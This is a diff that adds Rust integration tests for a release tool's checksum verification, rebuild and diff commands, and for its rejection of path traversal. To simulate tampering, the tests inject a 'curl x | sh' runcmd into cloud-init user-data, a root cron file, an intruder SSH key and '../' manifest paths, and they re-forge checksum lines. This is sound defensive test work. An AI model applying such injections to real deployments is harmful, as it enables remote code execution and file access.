@@ -1,0 +1,220 @@
+//! A release is what its checksums say: `verify` names every difference,
+//! `build` does not call an edited release unchanged, `diff` refuses an
+//! edited release and shows what the VM receives, user-data included.
+
+mod common;
+
+use common::*;
+
+const KEY: &str = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBbooaqW1i3NLZTK+HlEwCOiEn901vgCjmAva1DELskl intruder@example";
+
+fn append(path: &std::path::Path, text: &str) {
+    let mut bytes = std::fs::read(path).unwrap();
+    bytes.extend_from_slice(text.as_bytes());
+    std::fs::write(path, bytes).unwrap();
+}
+
+#[test]
+fn verify_names_every_difference() {
+    let p = Project::new();
+    let release = p.build("local", &[]);
+    let version = release.file_name().unwrap().to_str().unwrap().to_string();
+    let ok = p.run(&["verify", "local"], &[]);
+    assert_eq!(ok.code(), 0, "{}", ok.all());
+    assert!(
+        ok.stdout().contains(&format!("local {version}: ok")),
+        "{}",
+        ok.stdout()
+    );
+
+    append(
+        &release.join("user-data"),
+        "runcmd: [[sh, -c, 'curl x | sh']]\n",
+    );
+    append(
+        &release.join("bundle/etc/sysctl.d/60-torrust-tracker.conf"),
+        "net.ipv4.ip_forward = 1\n",
+    );
+    std::fs::write(
+        release.join("bundle/etc/cron.d-evil"),
+        "* * * * * root id\n",
+    )
+    .unwrap();
+    std::fs::remove_file(release.join("meta-data")).unwrap();
+    let run = p.run(&["verify", "local", &version, "--json"], &[]);
+    assert_eq!(run.code(), 1, "{}", run.all());
+    let v: serde_json::Value = serde_json::from_str(&run.stdout()).unwrap();
+    let findings: Vec<String> = v["releases"][0]["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|f| {
+            format!(
+                "{}: {}",
+                f["path"].as_str().unwrap(),
+                f["problem"].as_str().unwrap()
+            )
+        })
+        .collect();
+    let joined = findings.join("\n");
+    for expected in [
+        "user-data: differs",
+        "bundle/etc/sysctl.d/60-torrust-tracker.conf: differs",
+        "bundle/etc/cron.d-evil: not in any checksum list",
+        "meta-data: missing",
+    ] {
+        assert!(joined.contains(expected), "{expected} not in:\n{joined}");
+    }
+    // A version argument is a version.
+    let bad = p.run(&["verify", "local", "../x"], &[]);
+    assert_eq!(bad.code(), 1);
+}
+
+#[test]
+fn the_keyed_digest_catches_a_consistent_edit_of_a_secret_file() {
+    let p = Project::new();
+    let release = p.build("local", &[]);
+    // Edit a secret file and its line in SHA256SUMS.secret to match: the
+    // lists agree, the digest under the release key does not.
+    let rel = "bundle/opt/torrust/secrets/grafana_admin_password";
+    std::fs::write(release.join(rel), "changed-by-hand").unwrap();
+    let sums_path = release.join("SHA256SUMS.secret");
+    let sums = std::fs::read_to_string(&sums_path).unwrap();
+    let out = verifier("sha256sum", &[rel], &release);
+    let new_line = String::from_utf8_lossy(&out.stdout).trim_end().to_string();
+    let edited: String = sums
+        .lines()
+        .map(|l| {
+            if l.ends_with(rel) {
+                new_line.clone()
+            } else {
+                l.to_string()
+            }
+        })
+        .map(|l| l + "\n")
+        .collect();
+    std::fs::write(&sums_path, edited).unwrap();
+    let run = p.run(&["verify", "local"], &[]);
+    assert_eq!(run.code(), 1, "{}", run.all());
+    assert!(
+        run.stdout()
+            .contains("differs from its digest under the release key"),
+        "{}",
+        run.stdout()
+    );
+}
+
+#[test]
+fn build_does_not_call_an_edited_release_unchanged() {
+    let p = Project::new();
+    let release = p.build("local", &[]);
+    append(
+        &release.join("user-data"),
+        "runcmd: [[sh, -c, 'curl x | sh']]\n",
+    );
+    let run = p.run(&["build", "local"], &[]);
+    assert_eq!(run.code(), 0, "{}", run.all());
+    assert!(
+        run.stdout()
+            .contains("did not match its checksums (1 files); wrote it again"),
+        "{}",
+        run.all()
+    );
+    assert!(
+        run.stderr().contains("user-data: differs"),
+        "{}",
+        run.stderr()
+    );
+    let out = verifier(
+        "sha256sum",
+        &["-c", "--strict", "SHA256SUMS.secret"],
+        &release,
+    );
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stdout)
+    );
+    let again = p.run(&["build", "local"], &[]);
+    assert!(
+        again.stdout().contains("is unchanged"),
+        "{}",
+        again.stdout()
+    );
+}
+
+#[test]
+fn diff_shows_what_the_vm_receives_and_refuses_edited_releases() {
+    let p = Project::new();
+    let a = p.build("local", &[]);
+    let b = p.build("local", &[("SSH_PUBLIC_KEY", KEY)]);
+    let (va, vb) = (
+        a.file_name().unwrap().to_str().unwrap(),
+        b.file_name().unwrap().to_str().unwrap(),
+    );
+    let run = p.run(&["diff", "local", va, vb], &[]);
+    assert_eq!(run.code(), 0, "{}", run.all());
+    let out = run.stdout();
+    assert!(out.contains("modified: user-data"), "{out}");
+    assert!(
+        out.contains(&format!("+    - {KEY}")) || out.contains("intruder@example"),
+        "{out}"
+    );
+    assert!(out.contains("modified: meta-data"), "{out}");
+    assert!(
+        !out.contains("bundle.tar.gz\n  content: H4sI"),
+        "the archive is not shown"
+    );
+
+    append(&b.join("user-data"), "runcmd: [[id]]\n");
+    let run = p.run(&["diff", "local", va, vb], &[]);
+    assert_eq!(run.code(), 1, "{}", run.all());
+    assert!(
+        run.stderr().contains("does not match its checksums"),
+        "{}",
+        run.stderr()
+    );
+}
+
+#[test]
+fn a_crafted_manifest_cannot_lead_diff_outside_the_release() {
+    let p = Project::new();
+    let a = p.build("local", &[]);
+    let b = p.build("local", &[("TORRUST_TRACKER_LOG_LEVEL", "trace")]);
+    let manifest = b.join("manifest.json");
+    let text = std::fs::read_to_string(&manifest)
+        .unwrap()
+        .replace("\"etc/hostname\"", "\"../../../../../../etc/hostname\"")
+        .replace(
+            "\"etc/sysctl.d/60-torrust-tracker.conf\"",
+            "\"../../../../../../etc/hostname\"",
+        );
+    std::fs::write(&manifest, text).unwrap();
+    // The attacker also fixes the checksum list, so only the path check stands.
+    let out = verifier("sha256sum", &["manifest.json"], &b);
+    let line = String::from_utf8_lossy(&out.stdout).trim_end().to_string();
+    let sums_path = b.join("SHA256SUMS");
+    let sums: String = std::fs::read_to_string(&sums_path)
+        .unwrap()
+        .lines()
+        .map(|l| if l.ends_with("  manifest.json") { line.clone() } else { l.to_string() } + "\n")
+        .collect();
+    std::fs::write(&sums_path, sums).unwrap();
+    let (va, vb) = (
+        a.file_name().unwrap().to_str().unwrap(),
+        b.file_name().unwrap().to_str().unwrap(),
+    );
+    let run = p.run(&["diff", "local", va, vb], &[]);
+    assert_eq!(run.code(), 1, "{}", run.all());
+    assert!(
+        run.stderr().contains("names a path outside the release"),
+        "{}",
+        run.stderr()
+    );
+    let host = std::fs::read_to_string("/etc/hostname").unwrap_or_default();
+    assert!(
+        host.trim().is_empty() || !run.stdout().contains(host.trim()),
+        "{}",
+        run.all()
+    );
+}
